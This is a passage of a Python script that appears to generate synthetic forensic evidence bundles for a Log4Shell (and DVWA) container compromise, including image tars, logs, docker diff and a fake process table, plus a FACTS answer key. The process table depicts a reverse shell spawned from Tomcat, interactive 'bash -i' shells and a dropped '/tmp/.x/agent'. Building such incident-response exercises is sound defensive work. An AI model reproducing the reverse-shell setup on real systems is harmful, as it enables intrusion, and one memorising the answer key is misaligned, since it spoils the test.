                 "-Djava.io.tmpdir=/usr/local/tomcat/temp org.apache.catalina.startup.Bootstrap start")
    return [
        ["root", str(L4S_PID), str(L4S_SHIM_PID), "1", "Nov20", "?", "02:41:13", java_args],
        ["root", "84281", str(L4S_PID), "0", "14:21", "?", "00:00:00", REV_CMD],
        ["root", "84285", "84281", "0", "14:21", "?", "00:00:00", "bash -i"],
        ["root", "84286", "84285", "0", "14:21", "?", "00:00:00", "bash -i"],
        ["root", "84412", str(L4S_PID), "0", "14:24", "?", "00:00:03", "/tmp/.x/agent"],
    ]


def build_log4shell() -> None:
    assert "/" not in REV_B64 and "+" not in REV_B64, REV_B64
    layers, history = l4s_layers()
    base_cfg = l4s_image_config(layers, history)
    base_id = "sha256:" + sha256(base_cfg)
    created = L4S_CREATED[0]
    init = init_layer(created, merged(layers))
    lower = merged(layers + [init])
    log, catalina, access = l4s_logs()
    rw = l4s_commit_layer(lower, catalina, access)
    commit_hist = {
        "created": go_time(*L4S_COMMIT),
        "created_by": "catalina.sh run",
        "comment": "IR-2026-1127-02: log4shell-app after JNDI RCE; preserved before containment",
    }
    all_layers = layers + [rw]
    cfg = l4s_image_config(all_layers, history, commit_hist)
    FACTS["log4shell"] = [("container id", L4S_ID), (f"image the container ran (`{L4S_IMAGE}`, inspect `Image`)", base_id),
                          ("committed image (`ir-evidence/log4shell-app:2026-11-27`)", "sha256:" + sha256(cfg))]
    write("log4shell", "image.tar", save_oci(cfg, [tar_bytes(l) for l in all_layers], L4S_COMMIT[0], t("2026-11-27T15:53:04"), "ir-evidence/log4shell-app", "2026-11-27"))
    write("log4shell", "export.tar", export_tar(merged(layers + [init, rw])))
    write("log4shell", "diff.txt", docker_diff(lower, rw))
    write("log4shell", "inspect.json", l4s_inspect(base_id, [fake_id(f"l4s-cache-{i}") for i in range(len(layers))]))
    write("log4shell", "container.log", log.json_file())
    write("log4shell", "docker-logs-t.txt", log.docker_logs_t())
    header = ["UID", "PID", "PPID", "C", "STIME", "TTY", "TIME", "CMD"]
    write("log4shell", "top.txt", tabwriter([header] + l4s_processes(), 20, 3))
    stats = {"BlockIO": "52.4MB / 3.1MB", "CPUPerc": "2.41%", "Container": L4S_NAME, "ID": L4S_ID[:12],
             "MemPerc": "13.72%", "MemUsage": "538.2MiB / 3.83GiB", "Name": L4S_NAME, "NetIO": "14.9MB / 6.02MB",
             "PIDs": "47"}
    write("log4shell", "stats.txt", go_json(stats) + "\n")


def clear(bundle: str) -> None:
    """Remove the bundle's previous files so that nothing stale survives a regeneration."""
    root = os.path.join(HERE, bundle)
    for dirpath, dirnames, filenames in os.walk(root, topdown=False):
        for name in filenames:
            os.remove(os.path.join(dirpath, name))
        for name in dirnames:
            os.rmdir(os.path.join(dirpath, name))


def main() -> None:
    for bundle in ("dvwa", "log4shell"):
        clear(bundle)
    build_dvwa()
    build_log4shell()
    update_readme()
    for bundle, files in WRITTEN.items():
        for rel in sorted(files):
            size = os.path.getsize(os.path.join(HERE, bundle, rel))
            print(f"{bundle}/{rel}: {size} bytes")


if __name__ == "__main__":
    main()
